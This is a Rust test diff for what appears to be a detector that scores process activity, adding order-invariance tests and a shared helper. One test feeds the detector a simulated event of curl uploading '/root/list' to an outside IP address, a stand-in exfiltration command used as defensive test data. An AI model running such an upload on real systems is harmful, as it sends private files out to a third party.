@@ -100,6 +100,18 @@ fn scores_after(scene: &Scene) -> Vec<f64> {
     scores(&mut pipeline)
 }
 
+/// Scores after deeds that are all done at one instant.
+fn scores_at_once(deeds: &[Deed]) -> Vec<f64> {
+    let mut scene = begin();
+    scene.hold();
+    for &deed in deeds {
+        tell(&mut scene, deed, 0);
+    }
+    scene.wait(3);
+    scene.tick();
+    scores_after(&scene)
+}
+
 fn deeds() -> impl Strategy<Value = Vec<Deed>> {
     prop::collection::vec(any_deed(), 1..60)
 }
@@ -115,6 +127,62 @@ fn shuffled() -> impl Strategy<Value = (Vec<Deed>, Vec<Deed>)> {
     };
     let deeds = deeds().prop_map(move |deeds| deeds.into_iter().filter(holds).collect());
     deeds.prop_flat_map(|deeds: Vec<Deed>| (Just(deeds.clone()), Just(deeds).prop_shuffle()))
+}
+
+#[test]
+fn who_of_a_story_read_the_last_document_does_not_matter() {
+    use Deed::{Document, Key, Sends};
+    let sent = [Key(0, 0), Sends(0, 0, 20_124), Sends(3, 0, 79_876)];
+    let with = |documents: &[(usize, u64)]| {
+        let documents = documents.iter().map(|&(who, file)| Document(who, file));
+        scores_at_once(&sent.into_iter().chain(documents).collect::<Vec<_>>())
+    };
+    // Each with a file or a process that makes the eighth document the first, the last, one's own or shared.
+    let rows: [[&[(usize, u64)]; 2]; 3] = [
+        [
+            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (3, 6), (0, 7)],
+            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 7), (3, 6)],
+        ],
+        [
+            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7), (3, 8)],
+            &[(3, 8), (0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7)],
+        ],
+        [
+            &[(0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7), (3, 0)],
+            &[(3, 0), (0, 0), (0, 1), (0, 2), (0, 3), (0, 4), (0, 5), (0, 6), (0, 7)],
+        ],
+    ];
+    for [one, other] in rows {
+        let scores = [with(one), with(other)];
+        for (one, other) in scores[0].iter().zip(&scores[1]) {
+            assert!((one - other).abs() < 1e-9, "{scores:?}");
+        }
+    }
+}
+
+#[test]
+fn what_a_story_read_goes_with_its_data_whoever_read_the_last_document() {
+    // The second child writes a file that a command of another story reads.
+    let orders: [[(u32, u64); 8]; 2] = [
+        [(102, 0), (101, 1), (101, 2), (101, 3), (101, 4), (101, 5), (101, 6), (101, 7)],
+        [(101, 1), (101, 2), (101, 3), (101, 4), (101, 5), (101, 6), (101, 7), (102, 0)],
+    ];
+    let scores = orders.map(|documents| {
+        let mut scene = begin();
+        scene.hold();
+        for (reader, file) in documents {
+            scene.read(reader, 1_000 + file, &format!("/srv/docs/{file}.pdf"), 200_000);
+        }
+        scene.write(102, 5_000, "/root/list");
+        scene.spawn(10, 300, "/usr/bin/curl", &["curl", "-T", "/root/list", "http://198.51.100.2/"]);
+        scene.read(300, 5_000, "/root/list", 200_000);
+        let mut pipeline = Pipeline::new(Config::default());
+        feed(&mut pipeline, &scene.events);
+        let verdict = pipeline.judge(key(300), &mut Vec::new());
+        assert!(verdict.signals.iter().any(|weighted| weighted.signal.object.is_shared()), "{verdict:?}");
+        verdict.score
+    });
+    assert!((scores[0] - scores[1]).abs() < 1e-9, "{scores:?}");
 }
 
 proptest! {
@@ -172,16 +240,7 @@ proptest! {
 
     #[test]
     fn order_within_a_window_does_not_matter((deeds, shuffled) in shuffled()) {
-        let scores = [deeds, shuffled].map(|deeds| {
-            let mut scene = begin();
-            scene.hold();
-            for deed in &deeds {
-                tell(&mut scene, *deed, 0);
-            }
-            scene.wait(3);
-            scene.tick();
-            scores_after(&scene)
-        });
+        let scores = [deeds, shuffled].map(|deeds| scores_at_once(&deeds));
         for (one, other) in scores[0].iter().zip(&scores[1]) {
             prop_assert!((one - other).abs() < 1e-9, "{scores:?}");
         }
